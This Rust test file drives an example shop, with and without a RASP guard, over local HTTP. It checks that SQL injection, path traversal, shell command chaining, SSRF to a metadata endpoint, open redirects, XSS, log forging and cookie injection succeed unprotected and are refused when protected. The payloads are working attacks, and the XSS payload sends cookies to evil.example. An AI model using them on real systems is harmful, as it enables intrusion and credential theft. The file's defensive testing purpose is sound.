//! The shop through real HTTP on 127.0.0.1, one test per sink class:
//! without the guards the attack really works (rows leak, a file outside
//! the folder is read, a command runs, an internal server is reached, the
//! browser is sent off-site, a script lands in the page, a cookie gets
//! attributes of the attacker's choosing, a log line is forged, key guessing
//! is unlimited); protected, the same request is refused with a 403 that
//! names the request id, and benign look-alikes are served by both.

use std::net::{IpAddr, Ipv4Addr, SocketAddr};
use std::sync::Arc;
use std::sync::Once;
use std::sync::atomic::{AtomicU8, AtomicUsize, Ordering};

use rasp_example_shop::{Options, Shop};

/// The policy is process-wide: installed once, so that one test cannot
/// reset the login budget another is spending.
fn install_policy_once() {
    static INSTALLED: Once = Once::new();
    INSTALLED.call_once(|| {
        rasp_example_shop::install_policy().expect("the shop's policy is valid");
    });
}

/// A shop served on an ephemeral loopback port.
struct Served {
    base: String,
    shop: Shop,
}

async fn serve_with(options: Options) -> Served {
    install_policy_once();
    let shop = Shop::open_with(options).await.expect("seed the shop");
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0")
        .await
        .expect("bind 127.0.0.1:0");
    let addr = listener.local_addr().expect("local addr");
    let router = shop.clone().router();
    tokio::spawn(async move {
        axum::serve(
            listener,
            router.into_make_service_with_connect_info::<SocketAddr>(),
        )
        .await
        .expect("server");
    });
    Served {
        base: format!("http://{addr}"),
        shop,
    }
}

async fn serve(protected: bool) -> String {
    serve_with(Options::new(protected)).await.base
}

/// A client from a loopback address of its own (127.0.0.2, .3, …), so that
/// tests running in parallel spend separate per-address login budgets.
/// (Linux routes all of 127.0.0.0/8 to the loopback interface; other
/// systems need the addresses configured.) Redirects are returned, not
/// followed.
fn client() -> reqwest::Client {
    static NEXT: AtomicU8 = AtomicU8::new(2);
    let ip = Ipv4Addr::new(127, 0, 0, NEXT.fetch_add(1, Ordering::Relaxed));
    reqwest::Client::builder()
        .local_address(IpAddr::V4(ip))
        .redirect(reqwest::redirect::Policy::none())
        .no_proxy()
        .build()
        .expect("client")
}

/// A response's status, headers and body.
struct Answer {
    status: u16,
    headers: reqwest::header::HeaderMap,
    body: String,
}

impl Answer {
    fn header(&self, name: &str) -> &str {
        self.headers
            .get(name)
            .map(|v| v.to_str().expect("ascii header"))
            .unwrap_or_default()
    }

    /// Asserts a refusal by rasp: 403 with the request id and nothing else.
    fn assert_refused(&self) {
        assert_eq!(self.status, 403, "{}", self.body);
        let body: serde_json::Value = serde_json::from_str(&self.body).expect("JSON refusal");
        assert_eq!(body["error"], "forbidden", "{}", self.body);
        assert!(
            body["request_id"].as_str().is_some_and(|id| !id.is_empty()),
            "{}",
            self.body
        );
    }
}

async fn answer(request: reqwest::RequestBuilder) -> Answer {
    let res = request.send().await.expect("request");
    Answer {
        status: res.status().as_u16(),
        headers: res.headers().clone(),
        body: res.text().await.expect("body"),
    }
}

async fn get(url: String) -> Answer {
    answer(client().get(url)).await
}

/// Percent-encodes a query value.
fn encode(value: &str) -> String {
    value
        .bytes()
        .map(|b| match b {
            b'A'..=b'Z' | b'a'..=b'z' | b'0'..=b'9' | b'-' | b'_' | b'.' => (b as char).to_string(),
            _ => format!("%{b:02X}"),
        })
        .collect()
}

#[tokio::test]
async fn health_answers_in_both_builds() {
    for protected in [true, false] {
        let answer = get(format!("{}/health", serve(protected).await)).await;
        assert_eq!((answer.status, answer.body.as_str()), (200, "ok"));
    }
}

// ---- SQL ----------------------------------------------------------------

/// Input that turns the product search into a dump of every API key.
const UNION: &str = "zzz' UNION SELECT api_key FROM users --";
/// Boolean-blind probe: every product is listed exactly when the admin's
/// key starts with `key-admin`.
const BLIND: &str =
    "zzz' OR substr((SELECT api_key FROM users WHERE name = 'admin'), 1, 9) = 'key-admin' --";

/// Benign searches, two of them looking like SQL to a naive filter. (A
/// quote is no look-alike here: spliced into this query it really breaks
/// the SQL, and the guard rightly refuses it.)
const BENIGN_SEARCHES: [(&str, &str); 3] = [
    ("kett", r#"["kettle"]"#),
    ("tea -- 1=1 OR union select", "[]"),
    ("100% cotton; drop table mugs", "[]"),
];

async fn search(base: &str, q: &str) -> Answer {
    get(format!("{base}/search?q={}", encode(q))).await
}

#[tokio::test]
async fn unprotected_search_leaks_keys_and_answers_blind_probes() {
    let base = serve(false).await;
    let union = search(&base, UNION).await;
    assert_eq!(union.status, 200, "{}", union.body);
    assert!(union.body.contains("key-admin-91c2"), "{}", union.body);
    let blind = search(&base, BLIND).await;
    assert_eq!(blind.body, r#"["kettle","teapot","mug"]"#);
    for (q, expected) in BENIGN_SEARCHES {
        assert_eq!(search(&base, q).await.body, expected, "{q}");
    }
}

#[tokio::test]
async fn protected_search_serves_benign_and_refuses_injection() {
    let base = serve(true).await;
    for (q, expected) in BENIGN_SEARCHES {
        let answer = search(&base, q).await;
        assert_eq!(
            (answer.status, answer.body.as_str()),
            (200, expected),
            "{q}"
        );
    }
    for attack in [UNION, BLIND] {
        let answer = search(&base, attack).await;
        answer.assert_refused();
        assert!(!answer.body.contains("key-admin"), "{}", answer.body);
    }
}

// ---- paths --------------------------------------------------------------

#[tokio::test]
async fn download_traversal_reads_outside_unprotected_only() {
    let open = serve(false).await;
    let answer = get(format!("{open}/files/..%2Fsecret.txt")).await;
    assert_eq!(
        (answer.status, answer.body.as_str()),
        (200, "shop secret\n")
    );

    let guarded = serve(true).await;
    let answer = get(format!("{guarded}/files/manual.txt")).await;
    assert_eq!(
        (answer.status, answer.body.as_str()),
        (200, "kettle manual\n")
    );
    // A name with dots that stays inside: not found, not refused.
    assert_eq!(
        get(format!("{guarded}/files/manual..txt")).await.status,
        404
    );
    let answer = get(format!("{guarded}/files/..%2Fsecret.txt")).await;
    answer.assert_refused();
    assert!(!answer.body.contains("shop secret"), "{}", answer.body);
}

// ---- shell --------------------------------------------------------------

/// Input that adds a command reading a file outside the shop's exports.
const CHAINED: &str = "r; cat secret.txt; echo ";

#[tokio::test]
async fn export_runs_injected_commands_unprotected_only() {
    let open = serve(false).await;
    let answer = get(format!("{open}/export?name={}", encode(CHAINED))).await;
    assert_eq!(answer.status, 200, "{}", answer.body);
    assert!(answer.body.contains("shop secret"), "{}", answer.body);

    let served = serve_with(Options::new(true)).await;
    let answer = get(format!("{}/export?name=march-2026_v2", served.base)).await;
    assert_eq!((answer.status, answer.body.as_str()), (200, "exported\n"));
    assert!(served.shop.dir().join("exports/march-2026_v2.csv").exists());
    let answer = get(format!("{}/export?name={}", served.base, encode(CHAINED))).await;
    answer.assert_refused();
    assert!(!answer.body.contains("shop secret"), "{}", answer.body);
}

// ---- SSRF ---------------------------------------------------------------

/// A loopback server answering every path with `body`, counting requests.
async fn stand_in(body: &'static str) -> (SocketAddr, Arc<AtomicUsize>) {
    let hits = Arc::new(AtomicUsize::new(0));
    let counted = Arc::clone(&hits);
    let app = axum::Router::new().fallback(axum::routing::get(move || {
        counted.fetch_add(1, Ordering::SeqCst);
        async move { body }
    }));
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0")
        .await
        .expect("bind stand-in");
    let addr = listener.local_addr().expect("addr");
    tokio::spawn(async move { axum::serve(listener, app).await.expect("stand-in") });
    (addr, hits)
}

const METADATA_SECRET: &str = r#"{"AccessKeyId":"ASIA-STAND-IN","SecretAccessKey":"not-for-you"}"#;

#[tokio::test]
async fn avatar_fetch_reaches_internal_servers_unprotected_only() {
    let (cdn, cdn_hits) = stand_in("PNG-AVATAR").await;
    let (metadata, metadata_hits) = stand_in(METADATA_SECRET).await;
    let avatar = format!(
        "http://{}:{}/ann.png",
        rasp_example_shop::AVATAR_HOST,
        cdn.port()
    );
    let attacks = [
        format!("http://{metadata}/latest/meta-data/iam/security-credentials/"),
        // The same address spelt as one decimal number.
        format!("http://2130706433:{}/latest/meta-data/", metadata.port()),
    ];
    for protected in [false, true] {
        let mut options = Options::new(protected);
        options.avatar_addr = Some(cdn);
        let base = serve_with(options).await.base;
        let benign = get(format!("{base}/avatar?url={}", encode(&avatar))).await;
        assert_eq!((benign.status, benign.body.as_str()), (200, "PNG-AVATAR"));
        for attack in &attacks {
            let before = metadata_hits.load(Ordering::SeqCst);
            let answer = get(format!("{base}/avatar?url={}", encode(attack))).await;
            let reached = metadata_hits.load(Ordering::SeqCst) > before;
            if protected {
                answer.assert_refused();
                assert!(!reached, "the protected shop reached {attack}");
            } else {
                assert_eq!(answer.body, METADATA_SECRET, "{attack}");
                assert!(reached, "{attack}");
            }
        }
    }
    assert_eq!(cdn_hits.load(Ordering::SeqCst), 2);
}

// ---- login: SQL, redirect, log, rate limit ------------------------------

/// Posts a login form from `client`.
async fn login_from(
    client: &reqwest::Client,
    base: &str,
    name: &str,
    key: &str,
    next: &str,
) -> Answer {
    let body = format!(
        "name={}&key={}&next={}",
        encode(name),
        encode(key),
        encode(next)
    );
    answer(
        client
            .post(format!("{base}/login"))
            .header("content-type", "application/x-www-form-urlencoded")
            .body(body),
    )
    .await
}

/// Logs in as `admin` without the key.
const BYPASS: &str = "admin' --";
const EVIL: &str = "https://evil.example/phish";

#[tokio::test]
async fn login_is_bypassed_and_redirects_anywhere_unprotected_only() {
    let open = serve(false).await;
    let c = client();
    let bypass = login_from(&c, &open, BYPASS, "x", "/").await;
    assert_eq!((bypass.status, bypass.header("location")), (303, "/"));
    let redirect = login_from(&c, &open, "ann", "key-ann-7f3a", EVIL).await;
    assert_eq!((redirect.status, redirect.header("location")), (303, EVIL));

    let guarded = serve(true).await;
    let c = client();
    let ok = login_from(&c, &guarded, "ann", "key-ann-7f3a", "/orders?page=2").await;
    assert_eq!((ok.status, ok.header("location")), (303, "/orders?page=2"));
    let partner = "https://partner.shop.example/welcome";
    let ok = login_from(&c, &guarded, "ann", "key-ann-7f3a", partner).await;
    assert_eq!((ok.status, ok.header("location")), (303, partner));
    // An off-site URL in the query of an on-site path stays on the site.
    let look_alike = "/welcome?from=https://evil.example";
    let ok = login_from(&c, &guarded, "ann", "key-ann-7f3a", look_alike).await;
    assert_eq!((ok.status, ok.header("location")), (303, look_alike));
    assert_eq!(
        login_from(&c, &guarded, "ann", "wrong", "/").await.status,
        401
    );
    login_from(&c, &guarded, BYPASS, "x", "/")
        .await
        .assert_refused();
    for evil in [
        EVIL,
        "//evil.example/",
        "https://partner.shop.example@evil.example/",
    ] {
        login_from(&c, &guarded, "ann", "key-ann-7f3a", evil)
            .await
            .assert_refused();
    }
}

/// A user name that writes a second audit line claiming an admin login.
const FORGED: &str = "bob\nt=1764374400 login ok user=admin";

fn audit_lines(shop: &Shop) -> Vec<String> {
    std::fs::read_to_string(shop.audit_log())
        .unwrap_or_default()
        .lines()
        .map(str::to_owned)
        .collect()
}

#[tokio::test]
async fn forged_audit_lines_are_written_unprotected_only() {
    let open = serve_with(Options::new(false)).await;
    let c = client();
    assert_eq!(
        login_from(&c, &open.base, FORGED, "x", "/").await.status,
        401
    );
    let lines = audit_lines(&open.shop);
    assert_eq!(lines.len(), 2, "{lines:?}");
    assert_eq!(lines[1], "t=1764374400 login ok user=admin");

    let guarded = serve_with(Options::new(true)).await;
    let c = client();
    // Tabs, accents and a visible `\n` are names, not line breaks.
    let benign = "Zoë\tNeil \\n";
    assert_eq!(
        login_from(&c, &guarded.base, benign, "x", "/").await.status,
        401
    );
    login_from(&c, &guarded.base, FORGED, "x", "/")
        .await
        .assert_refused();
    let lines = audit_lines(&guarded.shop);
    assert_eq!(lines.len(), 1, "{lines:?}");
    assert!(
        lines[0].ends_with(&format!("login failed user={benign}")),
        "{lines:?}"
    );
}

#[tokio::test]
async fn key_guessing_is_throttled_protected_only() {
    for protected in [false, true] {
        let base = serve(protected).await;
        let guesser = client();
        let mut statuses = Vec::new();
        for n in 0..14 {
            let key = format!("guess-{n}");
            statuses.push(login_from(&guesser, &base, "admin", &key, "/").await.status);
        }
        if protected {
            // The policy's burst of 10, then 429 until the budget refills.
            assert_eq!(statuses[..10], [401; 10], "{statuses:?}");
            assert_eq!(statuses[10..], [429; 4], "{statuses:?}");
            // Another address has a budget of its own.
            let ok = login_from(&client(), &base, "ann", "key-ann-7f3a", "/").await;
            assert_eq!(ok.status, 303);
        } else {
            assert_eq!(statuses, [401; 14]);
        }
    }
}

// ---- HTML ---------------------------------------------------------------

const XSS: &str = "Ann<script>fetch('https://evil.example/?c='+document.cookie)</script>";

async fn profile(base: &str, name: &str, bio: &str) -> Answer {
    get(format!(
        "{base}/profile?name={}&bio={}",
        encode(name),
        encode(bio)
    ))
    .await
}

#[tokio::test]
async fn profile_puts_scripts_in_the_page_unprotected_only() {
    let open = serve(false).await;
    let answer = profile(&open, XSS, "tea").await;
    assert_eq!(answer.status, 200);
    assert!(answer.body.contains("<script>fetch("), "{}", answer.body);

    let guarded = serve(true).await;
    // Markup characters that open nothing are text.
    let answer = profile(&guarded, "Ann & Bob", "I <3 tea; 2 < 3 > 1").await;
    assert_eq!(answer.status, 200, "{}", answer.body);
    assert!(
        answer.body.contains("<h1 class=\"name\">Ann & Bob</h1>"),
        "{}",
        answer.body
    );
    for (name, bio) in [(XSS, "tea"), ("Ann", "<img src=x onerror=alert(1)>")] {
        let answer = profile(&guarded, name, bio).await;
        answer.assert_refused();
        assert!(!answer.body.contains("<script>"), "{}", answer.body);
    }
}

// ---- header -------------------------------------------------------------

/// A language that adds attributes to the shop's cookie.
const COOKIE_ATTRIBUTES: &str = "en; Domain=shop.example; Max-Age=315360000";

#[tokio::test]
async fn cookie_attributes_are_injected_unprotected_only() {
    let open = serve(false).await;
    let answer = get(format!("{open}/lang?lang={}", encode(COOKIE_ATTRIBUTES))).await;
    assert_eq!(answer.status, 303);
    assert!(answer.header("set-cookie").contains("Domain=shop.example"));

    let guarded = serve(true).await;
    let answer = get(format!("{guarded}/lang?lang=pt-BR")).await;
    assert_eq!(answer.status, 303);
    assert_eq!(answer.header("set-cookie"), "lang=pt-BR; Path=/; HttpOnly");
    let answer = get(format!("{guarded}/lang?lang={}", encode(COOKIE_ATTRIBUTES))).await;
    answer.assert_refused();
    assert!(answer.header("set-cookie").is_empty());
}

// ---- PostgreSQL ---------------------------------------------------------

#[tokio::test]
async fn postgres_shop_leaks_unprotected_and_refuses_protected() {
    let Ok(url) = std::env::var("RASP_TEST_POSTGRES_URL") else {
        eprintln!(
            "skipped: set RASP_TEST_POSTGRES_URL=postgres://… to test the shop on PostgreSQL"
        );
        return;
    };
    for protected in [false, true] {
        let mut options = Options::new(protected);
        options.database_url = Some(url.clone());
        let served = serve_with(options).await;
        let benign = search(&served.base, "kett").await;
        assert_eq!(
            (benign.status, benign.body.as_str()),
            (200, r#"["kettle"]"#)
        );
        let union = search(&served.base, UNION).await;
        let c = client();
        let bypass = login_from(&c, &served.base, BYPASS, "x", "/").await;
        if protected {
            union.assert_refused();
            bypass.assert_refused();
        } else {
            assert!(union.body.contains("key-admin-91c2"), "{}", union.body);
            assert_eq!(bypass.status, 303);
        }
        served.shop.close().await.expect("drop the shop's schema");
    }
}

// ---- rasp::protect ------------------------------------------------------

/// JSON lines written by a subscriber, kept in memory.
#[cfg(feature = "protected")]
#[derive(Clone, Default)]
struct JsonLines(Arc<std::sync::Mutex<Vec<u8>>>);

#[cfg(feature = "protected")]
impl std::io::Write for JsonLines {
    fn write(&mut self, buf: &[u8]) -> std::io::Result<usize> {
        self.0.lock().expect("lines").extend_from_slice(buf);
        Ok(buf.len())
    }

    fn flush(&mut self) -> std::io::Result<()> {
        Ok(())
    }
}

#[cfg(feature = "protected")]
impl JsonLines {
    fn parsed(&self) -> Vec<serde_json::Value> {
        let bytes = self.0.lock().expect("lines").clone();
        String::from_utf8(bytes)
            .expect("UTF-8 lines")
            .lines()
            .map(|line| serde_json::from_str(line).expect("a JSON line"))
            .collect()
    }
}

/// Every security event of this test process, as the shop's binary writes
/// them. Process-wide rather than one test's own: `tracing` caches whether
/// a span or event is wanted when it is first reached, and a subscriber set
/// for one thread is not asked about those first reached by another test.
#[cfg(feature = "protected")]
fn security_events() -> &'static JsonLines {
    static LINES: std::sync::OnceLock<JsonLines> = std::sync::OnceLock::new();
    LINES.get_or_init(|| {
        let lines = JsonLines::default();
        let writer = lines.clone();
        tracing_subscriber::fmt()
            .json()
            .with_writer(move || writer.clone())
            .with_env_filter(tracing_subscriber::EnvFilter::new(
                "rasp::security=info,rasp::request=debug",
            ))
            .try_init()
            .expect("the only subscriber of the tests");
        lines
    })
}

/// Built protected, each handler runs under `#[rasp::protect]`: the
/// security event of a refusal is reported inside its `rasp.protect`
/// span, which names the route and the handler and carries the request id
/// of the context `RaspLayer` opened (the handler reuses it rather than
/// opening one of its own), the same id the 403 names.
#[cfg(feature = "protected")]
#[tokio::test]
async fn refusals_are_reported_inside_the_handlers_protect_span() {
    let events = security_events();
    let base = serve(true).await;
    let answer = get(format!("{base}/files/..%2Fsecret.txt")).await;
    answer.assert_refused();
    let body: serde_json::Value = serde_json::from_str(&answer.body).expect("JSON refusal");

    let events = events.parsed();
    let refusal = events
        .iter()
        .find(|event| event["fields"]["rasp.request.id"] == body["request_id"])
        .unwrap_or_else(|| panic!("no event for {}: {events:#?}", body["request_id"]));
    assert_eq!(
        refusal["fields"]["event.name"], "rasp.path_traversal.blocked",
        "{refusal:#}"
    );
    let span = refusal["spans"]
        .as_array()
        .into_iter()
        .flatten()
        .find(|span| span["name"] == "rasp.protect")
        .unwrap_or_else(|| panic!("the refusal is outside any rasp.protect span: {refusal:#}"));
    assert_eq!(span["http.route"], "/files/{*path}", "{span}");
    assert_eq!(
        span["code.function"], "rasp_example_shop::handlers::download",
        "{span}"
    );
    assert_eq!(span["rasp.request.id"], body["request_id"], "{span}");
}
